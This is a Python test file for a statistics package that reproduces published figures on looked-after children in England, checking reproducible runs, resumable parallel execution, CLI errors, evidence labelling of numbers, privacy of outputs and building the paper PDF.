"""The runner: byte-identical numbers and findings, atomic results, the CLI."""

from __future__ import annotations

import json
import re
import shutil
import signal

import numpy as np
import pandas as pd
import pytest

from lacstats import analysis, cli, datasets, paper, synthetic
from lacstats.errors import LacstatsError
from lacstats.evidence import EVIDENCE, FINDINGS_OBTAINED, OBTAINED
from lacstats.reproduce import AnalysisFailed, dumps, partial_folder, run_all


@pytest.fixture(scope="module")
def two_runs(tmp_path_factory):
    base = tmp_path_factory.mktemp("runs")
    first = run_all(base / "a", seed=11, only=["calibrated_sample"])
    second = run_all(base / "b", seed=11, only=["calibrated_sample"])
    return base, first, second


def test_same_seed_byte_identical(two_runs):
    base, *_ = two_runs
    for name in (
        "findings.csv",
        "calibrated_sample/numbers.json",
        "calibrated_sample/findings.csv",
        "calibrated_sample/cost_by_risk_band.svg",
    ):
        assert (base / "a" / name).read_bytes() == (base / "b" / name).read_bytes(), name


def test_manifest_records_provenance(two_runs):
    base, first, _ = two_runs
    manifest = json.loads((base / "a" / "manifest.json").read_text())
    assert manifest["options"]["seed"] == 11
    assert manifest["dependencies"]["numpy"]
    assert "SFR50_CLA2017.csv" in manifest["packaged_data_sha256"]
    assert manifest["analyses"]["calibrated_sample"]["wall_seconds"] > 0
    numbers = json.loads((base / "a" / "calibrated_sample" / "numbers.json").read_text())
    # Evans (2020): "114 children were placed in residential care placements costing at
    # least £4,800 per week"; recomputed from the synthetic rows, by construction
    assert numbers["high_cost_residential__children"] == {
        "value": 114,
        "unit": "children",
        "evidence": "case_rows",
        "obtained": "recomputed_from_rows",
    }
    assert numbers["spearman_all"]["evidence"] == "synthetic_check"  # the generator's
    assert numbers["far_miles"] == {
        "value": 100,
        "unit": "miles from home",
        "evidence": "option",
        "obtained": "study_option",
    }
    assert first.findings["match"].all()
    assert first.findings["must_match"].all()
    assert "findings: 48 of 48 that match by construction do" in first.summary()


def test_failed_run_leaves_previous_results(tmp_path, two_runs):
    base, *_ = two_runs
    bad = tmp_path / "analyses"
    bad.mkdir()
    (bad / "broken.py").write_text("NAME = 'broken'\ndef run(ctx):\n    raise RuntimeError('x')\n")
    out = base / "a"
    before = (out / "findings.csv").read_bytes()
    with pytest.raises(AnalysisFailed, match=r"1 analysis failed: broken \(RuntimeError: x\)"):
        run_all(out, folder=bad)
    assert (out / "findings.csv").read_bytes() == before
    assert not partial_folder(out).exists()  # nothing finished: nothing kept


@pytest.mark.slow
def test_parallel_and_serial_runs_give_the_same_bytes(two_runs):
    base, *_ = two_runs
    names = ["calibrated_sample", "savings", "sufficiency"]
    serial = run_all(base / "serial", seed=11, only=names, jobs=1)
    parallel = run_all(base / "parallel", seed=11, only=names, jobs=3)
    files = [
        "findings.csv",
        *(f"{n}/numbers.json" for n in names),
        "savings/dorset_high_cost_review.csv",
    ]
    for name in files:
        assert (base / "serial" / name).read_bytes() == (base / "parallel" / name).read_bytes()
    # rows and manifests in name order whatever order the processes finished in
    assert list(parallel.table["analysis"]) == list(serial.table["analysis"]) == names
    manifest = json.loads((base / "parallel" / "manifest.json").read_text())
    assert (manifest["options"]["jobs"], list(manifest["analyses"])) == (3, names)


def test_an_interrupted_parallel_run_keeps_what_finished(tmp_path):
    folder = tmp_path / "analyses"
    folder.mkdir()
    quick, started, finished = tmp_path / "quick", tmp_path / "started", tmp_path / "finished"
    # a worker's analysis that would outlast the interrupt by far ...
    (folder / "slow.py").write_text(
        "import time, pathlib\nNAME = 'slow'\n"
        "def run(ctx):\n"
        f"    pathlib.Path({str(started)!r}).touch()\n"
        f"    if pathlib.Path({str(tmp_path / 'go slow')!r}).exists():\n"
        "        time.sleep(20)\n"
        f"    pathlib.Path({str(finished)!r}).touch()\n"
    )
    # ... one that finishes at once ...
    (folder / "quick.py").write_text(
        "import pathlib\nNAME = 'quick'\n"
        f"def run(ctx):\n    ctx.numbers(seed=ctx.seed)\n    pathlib.Path({str(quick)!r}).touch()\n"
    )
    # ... and the longest, run in this process, interrupted once the others have started
    (folder / "stop.py").write_text(
        "import time, pathlib\nNAME = 'stop'\nEXPECTED_SECONDS = 100\n"
        "def run(ctx):\n"
        f"    if not pathlib.Path({str(tmp_path / 'stop')!r}).exists():\n"
        "        return\n"
        f"    while not (pathlib.Path({str(started)!r}).exists()"
        f" and pathlib.Path({str(quick)!r}).exists()):\n"
        "        time.sleep(0.05)\n"
        "    time.sleep(1)\n"
        "    raise KeyboardInterrupt\n"
    )
    (tmp_path / "go slow").touch()
    (tmp_path / "stop").touch()
    out = tmp_path / "results"
    with pytest.raises(KeyboardInterrupt):
        run_all(out, folder=folder, jobs=3)
    # the worker still sampling was stopped, not waited for; the finished one is kept
    assert not finished.exists()
    assert not out.exists()
    partial = partial_folder(out)
    assert sorted(p.name for p in partial.iterdir() if not p.name.startswith(".")) == ["quick"]
    assert not list(tmp_path.glob(".results.staging.*"))
    # a run that is not resuming does not throw the finished analysis away
    with pytest.raises(LacstatsError, match=r"holds an unfinished run .*quick.*--resume"):
        run_all(out, folder=folder, jobs=3)
    (tmp_path / "go slow").unlink()
    (tmp_path / "stop").unlink()
    quick.unlink()
    said = []
    summary = run_all(out, folder=folder, jobs=3, resume=True, progress=said.append)
    assert summary.resumed == ("quick",)
    assert not quick.exists()  # not run again
    assert "resuming: 1 of 3 analyses reused" in said[0]
    assert sorted(json.loads((out / "manifest.json").read_text())["analyses"]) == [
        "quick",
        "slow",
        "stop",
    ]
    assert not partial.exists()


def test_analysis_declarations_are_literals(tmp_path):
    folder = tmp_path / "analyses"
    folder.mkdir()
    (folder / "odd.py").write_text("NAME = 'o' + 'dd'\ndef run(ctx):\n    pass\n")
    with pytest.raises(LacstatsError, match=r"odd\.py, line 1: NAME must be a literal"):
        run_all(tmp_path / "out", folder=folder)
    (folder / "odd.py").write_text("NAME = 'odd'\ndef run(ctx):\n    pass\n")
    with pytest.raises(LacstatsError, match="'jobs' must be a positive integer; got 0"):
        run_all(tmp_path / "out", folder=folder, jobs=0)
    assert not (tmp_path / "out").exists()


@pytest.mark.slow
def test_cli_reproduce(tmp_path, capsys):
    handler = signal.getsignal(signal.SIGTERM)
    args = ["reproduce", "--out", str(tmp_path / "r"), "--only", "savings", "sufficiency"]
    assert cli.main([*args, "--jobs", "2", "--seed", "5"]) == 0
    out, err = capsys.readouterr()
    # nothing here matches by construction; of the comparisons with published figures,
    # Bath and North East Somerset's own counts (4) and its placements "at a distance"
    # (count and share) differ from the DfE's, and the 2014 England count was revised
    assert "0 of 0 that match by construction do; 17 of 24 comparisons" in out
    # progress lines from the worker process reach the terminal through the main process
    assert "[savings] done in" in err
    assert "[sufficiency] done in" in err
    assert signal.getsignal(signal.SIGTERM) == handler  # the run's handler is undone
    manifest = json.loads((tmp_path / "r" / "manifest.json").read_text())
    assert manifest["options"] == {
        "seed": 5,
        "fast": False,
        "only": ["savings", "sufficiency"],
        "jobs": 2,
    }
    with pytest.raises(SystemExit) as stop:  # argparse: one line, exit 2
        cli.main([*args, "--quiet", "--jobs", "0"])
    assert stop.value.code == 2
    assert "--jobs: '0': must be at least 1" in capsys.readouterr().err


_ROWS_ANALYSIS = """
import pandas as pd
from lacstats import findings
NAME = "{name}"
def run(ctx):
    ctx.findings(findings.frame([findings.row(
        "x.y", "a figure", "children", 5, {reproduced}, "seslip2020needs",
        obtained="recomputed_from_rows", evidence="{evidence}", must_match={must},
        explanation="{why}")]))
"""


@pytest.mark.parametrize(
    ("must", "reproduced", "code", "why"),
    [
        (True, 5, 0, ""),  # matches by construction: a good run
        (True, 6, 1, ""),  # must match and does not: the run fails
        (False, 6, 0, "not the same measure"),  # a real comparison that differs: a finding
    ],
)
def test_a_run_fails_only_when_a_figure_that_must_match_does_not(
    tmp_path, monkeypatch, capsys, must, reproduced, code, why
):
    folder = tmp_path / "analyses"
    folder.mkdir()
    evidence = "case_rows" if must else "real_data"
    (folder / "rows.py").write_text(
        _ROWS_ANALYSIS.format(
            name="rows", reproduced=reproduced, evidence=evidence, must=must, why=why
        )
    )
    summary = run_all(tmp_path / "out", folder=folder)
    assert len(summary.unmatched()) == (code == 1)
    monkeypatch.setattr("lacstats.reproduce.analyses_folder", lambda: folder)
    assert cli.main(["reproduce", "--out", str(tmp_path / "cli"), "--quiet"]) == code
    _, err = capsys.readouterr()
    assert ("must match by construction do not" in err) == (code == 1)
    table = pd.read_csv(tmp_path / "cli" / "findings.csv")
    assert list(table.columns) == [
        "finding",
        "definition",
        "unit",
        "published",
        "reproduced",
        "rule",
        "match",
        "obtained",
        "evidence",
        "must_match",
        "explanation",
        "source",
        "analysis",
    ]
    assert table["source"].item() == (
        "Evans, Mark (2020), South East Needs DfE Project: SE Fostering Group"
    )


@pytest.mark.slow
def test_numbers_say_their_kind_of_evidence(tmp_path):
    folder = tmp_path / "analyses"
    folder.mkdir()
    (folder / "kinds.py").write_text(
        "NAME = 'kinds'\nEVIDENCE = 'real_data'\nOBTAINED = 'recomputed_from_public_data'\n"
        "def run(ctx):\n"
        "    ctx.numbers(a=(1, 'children'))\n"
        "    ctx.numbers(evidence='synthetic_check', obtained='generator_setting', b=0.07)\n"
        "    ctx.settings(c=(100, 'miles'))\n"
    )
    (folder / "silent.py").write_text("NAME = 'silent'\ndef run(ctx):\n    ctx.numbers(d=2)\n")
    run_all(tmp_path / "out", folder=folder)
    kinds = json.loads((tmp_path / "out" / "kinds" / "numbers.json").read_text())
    assert kinds == {
        "a": {
            "value": 1,
            "unit": "children",
            "evidence": "real_data",
            "obtained": "recomputed_from_public_data",
        },
        "b": {
            "value": 0.07,
            "unit": "",
            "evidence": "synthetic_check",
            "obtained": "generator_setting",
        },
        "c": {"value": 100, "unit": "miles", "evidence": "option", "obtained": "study_option"},
    }
    # an analysis that declares no kind is recorded as such (the fast run test fails on it)
    silent = json.loads((tmp_path / "out" / "silent" / "numbers.json").read_text())
    assert silent["d"]["evidence"] == "unclassified"
    (folder / "silent.py").write_text(
        "NAME = 'silent'\ndef run(ctx):\n    ctx.numbers(evidence='hearsay', d=2)\n"
    )
    with pytest.raises(LacstatsError, match=r"evidence must be one of .*got 'hearsay'"):
        run_all(tmp_path / "out2", folder=folder)


def test_cli_sample_size(capsys):
    # Creative Research Systems calculator (surveysystem.com/sscalc.htm): 95%, interval 10,
    # population 900 -> 87
    assert cli.main(["sample-size", "--population", "900"]) == 0
    assert capsys.readouterr().out.strip() == "87"


def test_cli_design(capsys, tmp_path):
    out = tmp_path / "design.csv"
    assert cli.main(["design", "--year", "2017", "--out", str(out)]) == 0
    assert f"total n = {_design_total('crs'):,}" in capsys.readouterr().out
    assert out.read_text().count("\n") == 20  # a header and the 19 authorities of Evans (2020)


def test_cli_reports_errors(capsys):
    with pytest.raises(SystemExit) as stop:
        cli.main(["sample-size", "--population", "900", "--interval", "0"])
    assert stop.value.code == 2
    assert "--interval: '0'" in capsys.readouterr().err


def test_cases_of_another_region_name_the_option_that_allows_them(tmp_path, capsys):
    """#30: `--cases` with another region's table said "pass authorities= to allow others"
    (a Python argument): it names the study file and `--study`, before any work."""
    from lacstats import study

    north_west = study.loads(
        '[study]\nname = "nw"\n[authorities]\nlist = ["Blackpool", "Bolton"]\n'
    )
    table = tmp_path / "ours.csv"
    synthetic.sample(north_west, rng=1).to_csv(table, index=False)
    out = tmp_path / "results"
    args = ["reproduce", "--cases", str(table), "--out", str(out), "--fast", "--only", "cohorts"]
    assert cli.main(args) == 2
    err = capsys.readouterr().err
    assert err.startswith(
        "lacstats: error: ours.csv (cell B2, B3, B4, B5, B6): column 'authority'"
    )
    assert "not one of the 19 authorities allowed (row 1: 'Blackpool'" in err
    assert err.rstrip().endswith(
        "For a table of other authorities, write a study file naming them and pass it with --study"
    )
    assert "authorities=" not in err
    assert "Traceback" not in err
    assert not out.exists()
    assert not partial_folder(out).exists()


@pytest.fixture(scope="module")
def fast_run(seed_fast_run):
    """One `lacstats reproduce --fast` of every analysis (the CI smoke test; conftest's,
    shared with test_paper_compiled)."""
    return seed_fast_run


@pytest.mark.slow
def test_fast_run_covers_every_analysis(fast_run):
    out, summary = fast_run
    declared = analysis.catalogue()
    every = {name for name, entry in declared.items() if not entry.on_demand}
    assert set(summary.table["analysis"]) == every
    # what the paper needs is what its declarations say, and all of it ran
    assert set(paper.REQUIRED) | set(paper.OPTIONAL) <= every
    assert len(every) >= 11
    assert "validation_sbc" not in every
    # every figure written is one its analysis declares (the runner refuses others)
    for name in every:
        written = {p.stem for p in (out / name).glob("*.png")}
        assert written <= set(declared[name].analysis.figures), name
    assert len(summary.unmatched()) == 0
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["options"]["fast"] is True
    assert manifest["fast_note"].startswith("MCMC and simulations shortened")
    for name in summary.table["analysis"]:
        assert (out / name / "numbers.json").is_file()
        assert (out / name / "manifest.json").is_file()
        # every figure says its kind of evidence and how it was obtained
        for key, entry in json.loads((out / name / "numbers.json").read_text()).items():
            assert entry["evidence"] in EVIDENCE, (name, key)
            assert entry["obtained"] in OBTAINED, (name, key)


@pytest.mark.slow
def test_findings_are_honestly_counted(fast_run):
    out, _ = fast_run
    table = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)
    assert not table["finding"].duplicated().any()  # no figure counted twice
    assert set(table["obtained"]) == set(FINDINGS_OBTAINED)
    # the synthetic sample's figures match by construction, and only they must match
    must = table["must_match"] == "True"
    assert (table.loc[must, "evidence"] == "case_rows").all()
    assert (table.loc[must, "match"] == "True").all()
    assert must.sum() == 48
    # comparisons with real figures that differ are in the table, each with its reason
    differ = table[table["match"] == "False"]
    assert (differ["explanation"].str.len() > 20).all()
    row = table.set_index("finding")
    # Bath and North East Somerset's statement (2018): 144, 152, 163, 168 children at
    # 31 March 2015-2018; the DfE releases of each year: 131, 147, 160, 169
    for year, own, dfe in ((2015, 144, 131), (2016, 152, 147), (2017, 163, 160), (2018, 168, 169)):
        found = row.loc[f"bath_ne_somerset.lac_31_march.{year}"]
        assert (found["published"], found["reproduced"], found["match"]) == (
            str(own),
            str(dfe),
            "False",
        )
    # its 27 placements "at a distance" (22%) against the DfE 2018 release's 35 children
    # (21%) placed more than 20 miles from home: not the same measure
    distance = row.loc["bath_ne_somerset.placements_at_a_distance"]
    assert (distance["published"], distance["reproduced"]) == ("27", "35")
    assert "Not the same measure" in distance["explanation"]
    share = row.loc["bath_ne_somerset.placements_at_a_distance_share_text"]
    assert (share["published"], share["reproduced"]) == ("22%", "21%")
    # Evans (2020) sampled 1,253 cases by a design that gives 1,268 (see the design test)
    design = row.loc["sample.design_total"]
    assert (design["published"], design["reproduced"], design["match"]) == (
        "1253",
        "1268",
        "False",
    )
    # no source document is named by its file name
    assert not table["source"].str.contains(r"\d{3}_[0-9a-f]{16}").any()
    # the national analysis cites the DfE releases whose totals it checks
    releases = table["source"].str.startswith("DfE children looked after 20")
    assert set(table.loc[releases, "analysis"]) == {"national"}
    assert set(table.loc[~releases, "source"]) == {
        "Evans, Mark (2020), South East Needs DfE Project: SE Fostering Group",
        (
            "Dorset County Council (2017), Looked After Children: Current Position, "
            "Predicting Future Numbers and Reducing Costs"
        ),
        (
            "Bath and North East Somerset Council, Placements, Commissioning and Contracts "
            "Team (2018), Sufficiency Statement for Looked After Children"
        ),
    }


def _design_total(convention: str) -> int:
    """The stated design of Evans (2020), "95% confidence level and confidence interval of
    10" per authority on the SFR50/2017 counts of children aged 10+, by the formula of the
    Creative Research Systems calculator (surveysystem.com/sample-size-formula.htm):
    ss = z^2 p (1 - p) / c^2, n = ss / (1 + (ss - 1) / N); z = 1.96 rounded half up (CRS),
    or z = 1.959964 rounded up (Cochran 1977, eq. 4.2 with the finite-population
    correction). Computed here without lacstats.sampling."""
    z, up = (1.96, False) if convention == "crs" else (1.959963984540054, True)
    ss = z**2 * 0.25 / 0.1**2
    sizes = [
        ss / (1 + (ss - 1) / n)
        for n in datasets.south_east_authorities(2017)["lac_10_plus"].astype(int)
    ]
    return int(sum(np.ceil(s) if up else np.floor(s + 0.5) for s in sizes))


@pytest.mark.slow
def test_sample_design_analysis(fast_run):
    out, _ = fast_run
    folder = out / "sample_design"
    numbers = json.loads((folder / "numbers.json").read_text())
    assert numbers["design_total_crs"]["value"] == _design_total("crs") == 1268
    assert numbers["design_total_exact"]["value"] == _design_total("exact") == 1275
    assert numbers["design_total_crs"]["evidence"] == "real_data"
    # the selection study: top-cost selection inflates the high-cost share (a method check)
    assert numbers["bias_top_cost__high_cost_residential"]["value"] > 10
    assert numbers["bias_top_cost__high_cost_residential"]["evidence"] == "synthetic_check"
    assert abs(numbers["bias_random__far_from_home"]["value"]) < 3
    # weighting to known margins: random selection stays unbiased; top-cost selection is
    # not rescued by post-stratification (its samples lack whole placement groups)
    assert (
        abs(numbers["weighted_bias_random__post_stratified__high_cost_residential"]["value"]) < 3
    )
    assert numbers["weighted_bias_top_cost__post_stratified__high_cost_residential"]["value"] > 10
    weighting = pd.read_csv(folder / "weighting_study.csv")
    assert set(weighting["weighting"]) == {"design", "post-stratified", "raked"}
    assert {
        "design.csv",
        "weighting_study.csv",
        "audit.csv",
        "selection_study.csv",
        "selection_bias.png",
        "selection_bias.svg",
    } <= {p.name for p in folder.iterdir()}
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["options"]["reps"] == 20


@pytest.mark.slow
def test_risk_cost_analysis(fast_run):
    out, _ = fast_run
    folder = out / "risk_cost"
    numbers = json.loads((folder / "numbers.json").read_text())
    assert 0.1 < numbers["spearman"]["value"] < 0.3
    assert numbers["spearman_ci_low"]["value"] < numbers["spearman"]["value"]
    # the truth of the method check: synthetic.RISK_COST_PER_SD per SD of the risk score
    cases = synthetic.complex_lac(rng=2019)
    truth = synthetic.RISK_COST_PER_SD / cases["risk_score"].astype(float).std(ddof=0)
    assert numbers["generator_risk_coefficient"]["value"] == pytest.approx(truth, abs=1e-5)
    assert numbers["generator_risk_coefficient"]["obtained"] == "generator_setting"
    recovery = pd.read_csv(folder / "risk_coefficient_recovery.csv")
    assert len(recovery) == numbers["models"]["value"] == 4
    covered = (recovery["ci_low"] <= truth) & (truth <= recovery["ci_high"])
    assert list(recovery["covers_truth"]) == list(covered)
    assert numbers["models_covering_truth"]["value"] == covered.sum()
    text = (folder / "summary.txt").read_text()
    assert text.startswith("Spearman correlation of risk_score and weekly_cost")
    table = (folder / "risk_cost.csv").read_text()
    assert "mixed model, authority intercepts" in table
    assert "case_id" not in table


@pytest.mark.slow
def test_cohorts_analysis(fast_run):
    out, summary = fast_run
    folder = out / "cohorts"
    numbers = json.loads((folder / "numbers.json").read_text())
    # Evans (2020): "200 children - 16.5% placed over 100 miles from home"; "The total
    # spend on these 114 children was £666,433 per week"
    assert numbers["keeping_local_children"]["value"] == 200
    assert numbers["keeping_local_percent"]["value"] == "16.5%"
    assert numbers["high_cost_weekly"]["value"] == 666433
    assert numbers["high_cost_weekly"]["evidence"] == "case_rows"
    # k-means finds the generator's latent profiles (synthetic.PROFILES)
    assert numbers["kmeans_profiles"]["value"] == len(synthetic.PROFILES)
    assert numbers["generator_profiles"]["value"] == len(synthetic.PROFILES)
    assert numbers["kmeans_profiles"]["evidence"] == "synthetic_check"
    table = (folder / "kmeans_profiles_by_cohort.csv").read_text()
    assert ",c," in table  # small counts suppressed
    # the cohort rules agree with the published definitions: a check, not a finding row
    assert "cohorts" not in set(summary.findings["analysis"])
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["diagnostics"]["cohort_rules_agree_with_published_definitions"]


@pytest.mark.slow
def test_authority_effects_analysis(fast_run):
    out, _ = fast_run
    folder = out / "authority_effects"
    numbers = json.loads((folder / "numbers.json").read_text())
    # the generator draws the authority effects with SD synthetic.AUTHORITY_EFFECT_SD (0.07)
    assert numbers["generator_authority_sd"]["value"] == synthetic.AUTHORITY_EFFECT_SD
    assert 0.02 < numbers["authority_sd"]["value"] < 0.15
    assert numbers["far_children"]["value"] == 200  # Evans (2020): 200 over 100 miles
    # the best model by LOO is the one with the highest ELPD
    elpd = {m: numbers[f"elpd_{m}"]["value"] for m in ("partial", "unpooled", "pooled")}
    assert numbers["loo_best"]["value"] == max(elpd, key=elpd.get)
    loo = pd.read_csv(folder / "loo_comparison.csv")
    assert list(loo["elpd"]) == sorted(loo["elpd"], reverse=True)
    # true versus estimated: 95% intervals should cover about 19 in 20 of the true effects;
    # 15 or more of 19 (binomial(19, 0.95) puts 0.2% below 15)
    recovery = pd.read_csv(folder / "authority_effects_recovery.csv")
    assert len(recovery) == numbers["authorities"]["value"] == 19
    assert "group" not in recovery.columns  # no authority named beside its draw
    assert numbers["effects_covered"]["value"] == recovery["covers_truth"].sum() >= 15
    assert abs(recovery["truth"].mean()) < 1e-6  # centred, as the model's effects are
    assert numbers["effects_correlation"]["value"] > 0.5
    manifest = json.loads((folder / "manifest.json").read_text())
    assert set(manifest["diagnostics"]) == {
        "partial_pooling",
        "far_from_home",
        "pooled",
        "unpooled",
    }


@pytest.mark.slow
def test_sensitivity_analysis(fast_run):
    out, _ = fast_run
    numbers = json.loads((out / "sensitivity" / "numbers.json").read_text())
    # Evans (2020): 114 at £4,800 or more, 37 of them at £6,000 or more, 200 over 100 miles
    assert numbers["high_cost_at_4800"]["value"] == 114
    assert numbers["high_cost_at_6000"]["value"] == 37
    assert numbers["keeping_local_at_100"]["value"] == 200
    assert numbers["high_cost_at_4800"]["evidence"] == "case_rows"
    assert numbers["high_cost_at_4000"]["evidence"] == "synthetic_check"
    assert numbers["design_total_95_10"]["value"] == _design_total("crs")
    assert numbers["design_total_95_10"]["evidence"] == "real_data"
    assert numbers["selection_error_top_cost_high_cost"]["value"] > 10


@pytest.mark.slow
def test_cost_savings_and_projection_analyses(fast_run):
    out, summary = fast_run
    numbers = json.loads((out / "cost_calculator" / "numbers.json").read_text())
    # Dorset County Council (2017), appendix Table 4: £3,332,385 for all placement types,
    # £1,264 a week
    assert numbers["dorset_all_types_total"]["value"] == 3332385
    assert numbers["dorset_all_types_mean_weekly"]["value"] == 1264
    assert numbers["dorset_all_types_total"]["obtained"] == "arithmetic_on_published_inputs"
    assert numbers["children_at_census"]["value"] > 100
    by_type = (out / "cost_calculator" / "costs_by_type.csv").read_text()
    assert ",c," in by_type  # small counts suppressed, with the costs they reveal
    savings = json.loads((out / "savings" / "numbers.json").read_text())
    # Dorset County Council (2017), Table 3: full-year costs avoided £321,360 (15 children,
    # IFA to in-house), £483,028 or £1,406,860 (the same 7 children in independent homes,
    # to in-house homes or to in-house foster care): alternatives, never summed
    assert [savings[f"dorset_row{i}_annual"]["value"] for i in (1, 2, 3)] == [
        321360,
        483028,
        1406860,
    ]
    assert [savings[f"dorset_row{i}_children"]["value"] for i in (1, 2, 3)] == [15, 7, 7]
    assert savings["dorset_alternative_rows"]["value"] == 2
    assert not any(
        entry["value"] in (321360 + 483028 + 1406860, 483028 + 1406860)
        for entry in savings.values()
    )
    table = pd.read_csv(out / "savings" / "dorset_in_house_fostering.csv", keep_default_na=False)
    assert list(table["alternatives"]) == ["", "alternative to row 3", "alternative to row 2"]
    # Table 2: £582,000 + £128,800 + £227,184 + £186,888 = £1,124,872 "if all timescales
    # are met"; at "on average 6 months" (26 weeks) half of it falls in the year
    # Dorset (2017), "Analysis of Costs by Age, Needs and Time Looked after": the need
    # groups' totals add to the printed 43 children and £977,830; Table 4's rows to £3,332,385
    rows = summary.findings.set_index("finding")
    for key, printed in (("age_needs_children", 43), ("age_needs_total", 977830)):
        found = rows.loc[f"dorset_cost_calculator_sample.{key}"]
        assert (found["published"], found["reproduced"]) == (printed, printed)
    assert savings["high_cost_review_total"]["value"] == 1124872
    assert savings["high_cost_review_in_year"]["value"] == 1124872 // 2
    low, high = (savings[f"high_cost_review_in_year_{k}"]["value"] for k in ("low", "high"))
    assert low < 1124872 // 2 < high
    projected = json.loads((out / "projection" / "numbers.json").read_text())
    # Nottinghamshire County Council (2014): from 885 in December 2013, "a growth of 2 LAC
    # per month until there are 898": 898 is reached after ceil(13 / 2) = 7 months
    assert projected["nottinghamshire_months_to_cap"]["value"] == 7
    # DfE 2019 LA-level underlying data (CLA2019_DfE_underlying.csv): children looked after
    # at 31 March 2019 aged 10 and over, summed over the 19 authorities of Evans (2020)
    assert projected["south_east_10_plus_2019"]["value"] == 6872
    assert projected["south_east_10_plus_2019"]["evidence"] == "real_data"
    assert projected["stock_end_low"]["value"] <= projected["stock_end_mean"]["value"]
    assert projected["stock_end_mean"]["evidence"] == "synthetic_check"
    assert (out / "projection" / "fan_chart.png").is_file()
    matched = summary.findings.set_index("finding")["match"]
    assert matched["dorset_high_cost_review.total"]
    # Bath and North East Somerset (2018) cites England's count at 31 March 2018 as the DfE
    # 2018 release first published it: 75,420
    assert matched["bath_ne_somerset.england_lac_31_march.2018"]
    # nothing from the SSDA903 returns is child-level: no CHILD identifier as a field,
    # and the projection's real start counts under 5 are pooled
    from lacstats import ssda903

    # (fake903 has identifiers as short as 91, 290 and 519, which a count of children
    # can equal: those are checked by the absence of any identifier column instead)
    children = {c for c in ssda903.read(ssda903.fake903_path()).header["CHILD"] if len(c) > 4}
    for name in ("cost_calculator", "projection"):
        for path in (out / name).glob("*.csv"):
            lines = path.read_text().splitlines()
            fields = {f for line in lines for f in line.split(",")}
            assert not fields & children, path
            assert not {"CHILD", "case_id", "child_key"} & set(lines[0].split(",")), path
    stock = pd.read_csv(out / "projection" / "stock_and_flow.csv")
    start = stock[(stock["month"] == 0) & (stock["placement_type"] != "All")]["mean"]
    assert not start.between(1, 4).any()
    banes = json.loads((out / "sufficiency" / "numbers.json").read_text())
    # DfE 2018 LA-level underlying data, Bath and North East Somerset, CLA_Mar2018: 169
    assert banes["banes_lac_2018_dfe"]["value"] == 169
    assert matched["dorset_cost_calculator_sample.all_types_weeks"]


def test_cli_sensitivity_sweep(tmp_path, capsys):
    grid = tmp_path / "grid.toml"
    grid.write_text("confidence = [0.95, 0.99]\ninterval = [10]\n")
    out = tmp_path / "design.csv"
    assert (
        cli.main(["sensitivity", "design", "--grid", str(grid), "--out", str(out), "--quiet"]) == 0
    )
    assert f"0.95,10,crs,{_design_total('crs')}" in out.read_text().replace(".0,", ",")
    bad = tmp_path / "bad.toml"
    bad.write_text("confidence = 0.95\n")
    assert cli.main(["sensitivity", "design", "--grid", str(bad)]) == 2
    assert "list of values" in capsys.readouterr().err


@pytest.mark.slow
def test_no_output_has_a_case_identifier_or_a_seed_file_name(fast_run):
    out, _ = fast_run
    for path in out.rglob("*"):
        if path.suffix in {".csv", ".json", ".txt", ".svg"}:
            text = path.read_text()
            assert "SE0" not in text, path
            assert not re.search(r"\d{3}_[0-9a-f]{16}\.txt", text), path


@pytest.mark.slow
def test_paper_compiles(fast_run, tmp_path):
    out, _ = fast_run
    pdf = paper.build(out, tmp_path / "paper.pdf")
    data = pdf.read_bytes()
    assert data.startswith(b"%PDF")
    assert len(data) > 50_000
    again = paper.build(out, tmp_path / "again.pdf")
    assert again.read_bytes() == data  # fixed timestamp: the same results, the same PDF
    with pytest.raises(LacstatsError, match="incomplete"):
        paper.build(tmp_path, tmp_path / "none.pdf")


@pytest.mark.slow
def test_paper_fails_on_a_figure_of_the_wrong_kind(fast_run, tmp_path):
    # the paper's accessors check each figure's kind: a synthetic estimate presented as a
    # real finding stops the build
    out, _ = fast_run
    copy = tmp_path / "results"
    shutil.copytree(out, copy)
    numbers = copy / "authority_effects" / "numbers.json"
    figures = json.loads(numbers.read_text())
    figures["authority_sd"]["evidence"] = "real_data"
    numbers.write_text(json.dumps(figures))
    with pytest.raises(LacstatsError, match="authority_sd is evidence of kind real_data"):
        paper.build(copy, tmp_path / "paper.pdf")


@pytest.mark.slow
def test_paper_reports_the_national_analysis_when_it_is_there(fast_run, tmp_path):
    # the fast run has the national analysis; a copy without it says it was not run
    out, _ = fast_run
    assert (out / "national" / "numbers.json").is_file()
    copy = tmp_path / "results"
    shutil.copytree(out, copy)
    shutil.rmtree(copy / "national")
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["analyses"].pop("national", None)
    (copy / "manifest.json").write_text(json.dumps(manifest))
    with_national = paper.build(out, tmp_path / "with.pdf").read_bytes()
    without = paper.build(copy, tmp_path / "without.pdf").read_bytes()
    assert with_national != without


@pytest.mark.slow
def test_paper_pages_are_filled(fast_run, tmp_path, page_blankness):
    out, _ = fast_run
    pdf = paper.build(out, tmp_path / "paper.pdf")
    blank = page_blankness(pdf)
    assert len(blank) >= 5
    # no page but the last is more than half blank (a float pushed off, a table not split)
    assert max(blank.values()) <= 0.5, blank


@pytest.mark.slow
def test_national_analysis(fast_run):
    out, summary = fast_run
    folder = out / "national"
    numbers = json.loads((folder / "numbers.json").read_text())
    positions = pd.read_csv(folder / "national_positions.csv")
    rate = positions[positions["measure"] == "rate"]
    assert len(rate) == 152  # every authority, 2019
    assert rate["marked"].sum() == 19  # the South East
    assert (rate["ci_low"] <= rate["estimate"]).all()
    assert (rate["estimate"] <= rate["ci_high"]).all()
    assert (rate["rank_low"] <= rate["rank_high"]).all()
    assert positions.groupby("measure").size().to_dict() == {
        "far": 150,  # the Isles of Scilly place no child; one authority's distances all suppressed
        "private": 151,
        "rate": 152,
        "residential": 151,
    }
    # England's rate per 10,000 from the LA rows equals the release's, every year
    found = summary.findings.set_index("finding")
    for year in range(2015, 2020):
        assert found.loc[f"national.england.rate_per_10000.{year}", "match"]
    assert found.loc["national.england.rate_per_10000.2019", "published"] == 65
    assert numbers["totals_checked"]["value"] > 150
    # sufficiency: Ofsted's 2016 children's homes places in the South East
    assert numbers["south_east_homes_places_2016"]["value"] > 1000
    table = pd.read_csv(folder / "sufficiency_by_region.csv")
    assert len(table) == 9
    assert {"caterpillar_far.png", "caterpillar_rate.svg"} <= {p.name for p in folder.iterdir()}


@pytest.mark.slow
